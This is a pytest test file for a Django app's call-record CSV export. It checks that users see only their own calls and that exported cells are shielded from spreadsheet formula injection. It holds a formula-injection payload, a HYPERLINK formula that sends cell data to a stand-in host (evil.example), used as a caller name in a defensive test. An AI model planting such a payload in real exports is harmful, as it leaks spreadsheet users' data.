from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

import pytest

from tests.factories import make_cdr, make_cdrs, verified_client
from traffic.exports import CALL_HEADER, neutralise
from traffic.models import CallExport
from traffic.services.call_exports import STREAM_MAX_CALLS

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _private_dir(settings, tmp_path):
    settings.PRIVATE_FILES_DIR = tmp_path

T0 = datetime(2026, 3, 10, 9, 0, tzinfo=timezone.utc)
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


class CallCsvExportTests:
    def test_it_exports_only_own_calls_from_page_and_api(self, client, alice, mallory):
        make_cdr(account=alice, direction="in", src="+31699993678", dst="+31205550101", started_at=T0)
        make_cdr(account=mallory, src="+31205550999", dst="+31699995777", started_at=T0)
        verified_client(client, alice)
        for url in ("/calls/export.csv", "/api/v1/me/calls.csv", "/api/v1/me/calls/?format=csv"):
            response = client.get(url)
            assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
            rows = _rows(response)
            assert rows[0][0] == "started_at" and len(rows) == 2
            assert "+31699995777" not in str(rows) and "'+31699993678" in rows[1]

    @pytest.mark.parametrize("url", ["/calls/export.csv", "/api/v1/me/calls.csv", "/api/v1/me/calls/?format=csv"])
    def test_a_big_export_goes_through_a_task_and_holds_only_own_calls(self, client, alice, mallory, url,
                                                                          django_capture_on_commit_callbacks):
        make_cdrs(account=alice, n=STREAM_MAX_CALLS + 1, caller_name=HOSTILE)
        make_cdrs(account=mallory, n=3, src="+31205550999")
        make_cdr(account=mallory, src="+31205550999", dst="+31699995777", started_at=T0)
        verified_client(client, alice)
        with django_capture_on_commit_callbacks(execute=True):
            response = client.get(url)
        assert response.status_code in (202, 302)
        export = CallExport.objects.get()
        assert export.owner == alice
        rows = _rows(client.get(f"/calls/exports/{export.pk}/download/"))
        assert rows[0] == CALL_HEADER and len(rows) == STREAM_MAX_CALLS + 2
        assert "+31699995777" not in str(rows) and "+31205550999" not in str(rows)
        assert {row[rows[0].index("caller_name")] for row in rows[1:]} == {"'" + HOSTILE}

    def test_it_neutralises_formula_injection_in_caller_names(self, client, alice):
        make_cdr(account=alice, direction="in", src="+31699993678", dst="+31205550101", started_at=T0,
                 caller_name=HOSTILE)
        rows = _rows(verified_client(client, alice).get("/calls/export.csv"))
        name = rows[1][rows[0].index("caller_name")]
        assert name == "'" + HOSTILE

    def test_it_refuses_a_bad_filter_before_streaming(self, client, alice):
        verified_client(client, alice)
        response = client.get("/calls/export.csv?number=hello", follow=True)  # back to the calls page, error shown
        assert response.status_code == 400 and not response.streaming
        response = client.get("/api/v1/me/calls.csv?since=nope")
        assert response.status_code == 400 and "since" in response.json()
        response = client.get("/api/v1/me/calls/?format=csv&since=nope")
        assert response.status_code == 400 and b"since" in response.content

    @pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
    def test_it_prefixes_every_formula_start(self, cell):
        assert neutralise(cell) == "'" + cell

    def test_it_leaves_plain_text_alone(self):
        assert neutralise("Jan de Vries") == "Jan de Vries"
